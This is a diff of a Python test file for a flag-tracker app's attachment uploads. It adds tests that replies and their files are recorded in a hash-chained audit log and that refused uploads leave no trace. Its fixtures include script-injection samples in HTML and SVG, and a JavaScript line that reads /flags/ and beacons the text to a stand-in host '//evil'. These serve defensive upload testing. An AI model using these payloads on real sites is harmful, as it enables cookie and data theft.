@@ -3,26 +3,33 @@
 from __future__ import annotations
 
 import io
+import json
 import stat
 import zipfile
+from hashlib import sha256
 from pathlib import Path
+from typing import Any
 
 import pytest
 from litestar import Litestar
 from litestar.testing import TestClient
 from openpyxl import Workbook
-from sqlmodel import Session, select
+from sqlmodel import Session, col, select
 
 from tests.conftest import Cast, csrf_from
 from tests.test_flag_review import NOW, a_flag, do
 from tracker.app import STATIC_DIR
+from tracker.audit.chain import check_chain, head
+from tracker.audit.models import AuditEntry
 from tracker.flags.attachments import (
     MAX_FILES,
     AttachmentRefused,
+    StoredFile,
     Upload,
-    attach,
     describe,
     display_name,
+    record_files,
+    store_for,
     stored_path,
 )
 from tracker.flags.models import Attachment, Flag, FlagAction, FlagStatus
@@ -41,6 +48,21 @@ HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></bod
 SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
 JS = b"fetch('/flags/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t));\n"
 TEMPLATES_DIR = STATIC_DIR.parent / "templates"
+
+
+def attach(
+    db: Session,
+    record: FlagAction,
+    uploads: list[Upload],
+    *,
+    user: Any,
+    data_dir: Path,
+    max_bytes: int,
+    now: Any,
+) -> list[Attachment]:
+    """What the reply route does with its files: store them, then record them on the action."""
+    stored: list[StoredFile] = store_for(record.action, db, uploads, data_dir=data_dir, max_bytes=max_bytes)
+    return record_files(db, record, stored, user=user, now=now)
 
 
 def xlsx_bytes() -> bytes:
@@ -155,6 +177,44 @@ def test_anonymous_visitors_cannot_download(
     url = as_op_a.get(f"/flags/{flag_id}?format=json").json()["history"][-1]["attachments"][0]["url"]
     response = anon.get(url, follow_redirects=False)
     assert response.status_code in (302, 303, 401) and PDF not in response.content
+
+
+def audit_records(db: Session, after: int) -> list[tuple[str, str, dict[str, Any]]]:
+    """The audit log's entries after entry ``after``: kind, ref and what each recorded."""
+    db.rollback()
+    rows = db.exec(select(AuditEntry).where(AuditEntry.seq > after).order_by(col(AuditEntry.seq)))
+    return [(r.kind, r.ref, json.loads(r.body)["record"]) for r in rows]
+
+
+def test_a_reply_and_its_files_are_recorded_in_the_audit_log_with_each_files_digest(
+    db: Session, cast: Cast, as_op_a: TestClient[Litestar]
+) -> None:
+    flag_id = asked_to_explain(db, cast)
+    before = head(db)[0]
+    response = send(as_op_a, flag_id, "reply", "见附件", [("说明.pdf", PDF), ("截图.png", PNG)])
+    assert response.status_code == 302, response.text
+    actions, attachments = recorded(db)
+    reply = actions[-1]
+    [(kind, ref, action), (files_kind, files_ref, files)] = audit_records(db, before)
+    assert (kind, ref, action["action"], action["text"]) == ("flag_action", str(reply.id), "reply", "见附件")
+    assert (files_kind, files_ref, files["action_id"]) == ("attachments", str(reply.id), reply.id)
+    sent = [("说明.pdf", "application/pdf", PDF), ("截图.png", "image/png", PNG)]
+    assert files["files"] == [
+        {"id": a.id, "name": name, "type": type_, "size": len(content), "sha256": sha256(content).hexdigest()}
+        for a, (name, type_, content) in zip(attachments, sent, strict=True)
+    ]
+    assert check_chain(db).problems == []
+
+
+def test_a_refused_file_appends_nothing_to_the_audit_log(
+    db: Session, cast: Cast, as_op_a: TestClient[Litestar]
+) -> None:
+    flag_id = asked_to_explain(db, cast)
+    before = head(db)
+    response = send(as_op_a, flag_id, "reply", "见附件", [("good.pdf", PDF), ("report.pdf", EXE)])
+    assert response.status_code == 400
+    db.rollback()
+    assert head(db) == before and audit_records(db, before[0]) == []
 
 
 def test_a_renamed_windows_program_is_refused_by_name_and_nothing_is_recorded_or_kept(
